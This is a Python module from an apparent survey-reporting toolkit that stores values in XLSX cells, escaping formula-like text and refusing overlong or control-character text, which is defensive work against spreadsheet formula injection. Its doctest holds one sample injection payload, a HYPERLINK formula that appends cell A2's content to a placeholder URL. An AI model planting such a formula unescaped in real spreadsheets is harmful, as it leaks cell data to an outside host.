"""What a worksheet cell may hold: the one gate every XLSX cell of the tables room passes.

:func:`put` stores a value in a cell of an openpyxl worksheet:

- numbers stay numbers (numpy scalars become Python numbers), dates stay dates;
- text is neutralised for spreadsheets (:func:`survey_kit._formulas.escape_text`:
  text beginning with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return
  gets a leading apostrophe, so neither openpyxl nor a spreadsheet reads it as
  a formula) -- titles, labels, notes and headers as much as data;
- text longer than an XLSX cell can hold (32,767 characters) is refused with a
  :class:`~survey_kit.errors.ReportError` naming the sheet and the cell,
  whatever the text is (a title or note too: openpyxl would cut it silently,
  and a cut note can say the opposite of the whole one); so is text with a
  control character XLSX cannot store.

:func:`survey_kit.tables.doc_xlsx.write_workbook` adds the file to the error.

Example
-------
>>> from openpyxl import Workbook
>>> ws = Workbook().active
>>> put(ws, 1, 1, "=HYPERLINK(\\"http://x/?\\"&A2)").value
'\\'=HYPERLINK("http://x/?"&A2)'
>>> put(ws, 2, 1, "-5").value, put(ws, 3, 1, 0.25).value
('-5', 0.25)
>>> put(ws, 4, 1, "x" * 40_000)  # doctest: +ELLIPSIS
Traceback (most recent call last):
...
survey_kit.errors.ReportError: sheet 'Sheet', cell A4: a text of 40000 characters does not fit ...
"""

from __future__ import annotations

import datetime as _dt
from typing import Any

import numpy as np
import pandas as pd

from .._formulas import XLSX_ILLEGAL, XLSX_MAX_TEXT, escape_text
from ..errors import ReportError

__all__ = ["excel_value", "put"]



def excel_value(v: Any) -> Any:
    """A cell value openpyxl can store: numbers stay numbers, unknown objects become text."""
    if isinstance(v, (np.integer, np.floating, np.bool_)):
        return v.item()
    if isinstance(v, pd.Timestamp):
        return v.to_pydatetime()
    if v is None or isinstance(v, (int, float, str, bool, _dt.date)):
        return v
    return str(v)


def _text(ws: Any, coordinate: str, value: str) -> str:
    """``value`` escaped, after checking it can be stored in an XLSX cell."""
    out = escape_text(value)
    where = f"sheet {ws.title!r}, cell {coordinate}"
    if len(out) > XLSX_MAX_TEXT:
        raise ReportError(f"{where}: a text of {len(out)} characters does not fit in an XLSX "
                          f"cell (at most {XLSX_MAX_TEXT}); shorten it, or write the table as CSV")
    bad = XLSX_ILLEGAL.search(out)
    if bad:
        raise ReportError(f"{where}: the text holds the control character "
                          f"{bad.group()!r}, which XLSX cannot store; remove it from the "
                          "labels or the data", value=out[:60])
    return out


def put(ws: Any, row: int, column: int, value: Any) -> Any:
    """Store ``value`` in the cell (row, column) of ``ws`` through the rules above; the cell."""
    cell = ws.cell(row=row, column=column)
    value = excel_value(value)
    if isinstance(value, str):
        value = _text(ws, cell.coordinate, value)
    cell.value = value
    return cell
